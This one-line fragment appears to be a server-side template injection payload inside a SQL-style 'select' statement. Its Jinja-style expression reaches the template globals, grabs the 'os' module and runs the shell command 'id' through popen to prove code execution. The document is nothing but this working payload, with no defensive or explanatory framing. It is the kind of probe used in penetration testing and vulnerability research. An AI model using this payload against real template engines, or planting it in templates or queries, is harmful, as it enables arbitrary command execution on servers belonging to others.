select {{ ref.__globals__['os'].popen('id').read() }}
